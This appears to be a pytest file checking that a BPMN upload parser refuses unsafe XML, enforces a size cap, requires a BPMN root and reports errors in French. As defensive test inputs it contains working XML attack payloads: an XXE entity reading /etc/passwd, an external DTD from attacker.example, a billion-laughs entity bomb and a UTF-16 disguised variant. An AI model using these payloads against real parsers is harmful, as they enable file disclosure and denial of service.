"""Safe loading of uploaded BPMN: no DTD, no entities, no network, a size cap, a BPMN root."""

import time

import pytest

from bpmn.xml import DEFINITIONS, MAX_BYTES, parse_xml
from kernel.errors import Malformed, TooLarge
from web.errors import status_of

BPMN = 'xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"'
MINIMAL = f'<?xml version="1.0" encoding="UTF-8"?>\n<bpmn:definitions {BPMN} id="D"/>'.encode()


def test_a_minimal_bpmn_file_gives_its_definitions_root():
    root = parse_xml(MINIMAL)
    assert root.tag == DEFINITIONS
    assert root.get("id") == "D"


def test_xxe_reading_a_local_file_is_refused():
    data = f"""<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<bpmn:definitions {BPMN}><bpmn:documentation>&xxe;</bpmn:documentation></bpmn:definitions>""".encode()
    with pytest.raises(Malformed, match="DOCTYPE"):
        parse_xml(data)


def test_external_dtd_is_refused_without_network():
    data = f"""<?xml version="1.0"?>
<!DOCTYPE definitions SYSTEM "http://attacker.example/evil.dtd">
<bpmn:definitions {BPMN}/>""".encode()
    with pytest.raises(Malformed, match="DOCTYPE"):
        parse_xml(data)


BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<bpmn:definitions {BPMN}><bpmn:documentation>&lol9;</bpmn:documentation></bpmn:definitions>"""


def test_billion_laughs_is_refused_at_once():
    started = time.monotonic()
    with pytest.raises(Malformed, match="DOCTYPE"):
        parse_xml(BILLION_LAUGHS.encode())
    assert time.monotonic() - started < 1


def test_a_doctype_hidden_in_utf16_is_refused_after_parsing():
    data = BILLION_LAUGHS.replace('version="1.0"', 'version="1.0" encoding="UTF-16"', 1).encode("utf-16")
    with pytest.raises(Malformed, match="DOCTYPE"):
        parse_xml(data)


def test_a_file_above_the_cap_is_too_large():
    data = MINIMAL + b" " * (MAX_BYTES + 1 - len(MINIMAL))
    with pytest.raises(TooLarge) as raised:
        parse_xml(data)
    assert status_of(raised.value) == 413
    assert "5 Mo" in raised.value.message


def test_a_file_at_the_cap_is_read():
    data = MINIMAL + b" " * (MAX_BYTES - len(MINIMAL))
    assert parse_xml(data).tag == DEFINITIONS


def test_malformed_xml_says_where_in_french():
    data = f'<?xml version="1.0"?>\n<bpmn:definitions {BPMN}>\n  <bpmn:process id="P">\n</bpmn:definitions>'
    with pytest.raises(Malformed) as raised:
        parse_xml(data.encode())
    error = raised.value
    assert status_of(error) == 400
    assert "ligne 4" in error.message and "colonne" in error.message
    assert error.details["line"] == 4


ENGLISH = ("expected", "found", "tag", "error", "Premature", "Opening", "Extra content", "libxml2", "parsing")


@pytest.mark.parametrize(
    ("data", "line", "said"),
    [
        (b"Start here, not xml", 1, "ne commence pas par une balise XML"),
        (b"PK\x03\x04 an archive", 1, "ne commence pas par une balise XML"),
        (b'{"json": true}', 1, "ne commence pas par une balise XML"),
        (b"<a>\n<b</a>", 2, "un nom de balise ou d'attribut est attendu"),
        (b"<a>\n\n<!-- open </a>", 3, "commentaire"),
        (b"<a></a>\n<b/>", 2, "du contenu suit la fin du document"),
        (b"<a>\n  AT&T</a>", 2, "&amp;"),
    ],
)
def test_upload_errors_are_said_in_french_with_the_line(data, line, said):
    with pytest.raises(Malformed) as raised:
        parse_xml(data)
    message = raised.value.message
    assert f"ligne {line}" in message and said in message, message
    assert not [word for word in ENGLISH if word in message], message


@pytest.mark.parametrize("data", [b"", b"   \n", b"not xml at all"])
def test_empty_or_non_xml_is_malformed(data):
    with pytest.raises(Malformed):
        parse_xml(data)


@pytest.mark.parametrize(
    "data",
    [
        b"<definitions/>",
        b'<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/DI"/>',
        f"<bpmn:process {BPMN}/>".encode(),
        b'<svg xmlns="http://www.w3.org/2000/svg"/>',
    ],
)
def test_a_root_other_than_bpmn_definitions_is_refused(data):
    with pytest.raises(Malformed, match="BPMN 2.0"):
        parse_xml(data)


def test_the_default_namespace_form_is_accepted():
    data = b'<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" id="D"/>'
    assert parse_xml(data).get("id") == "D"
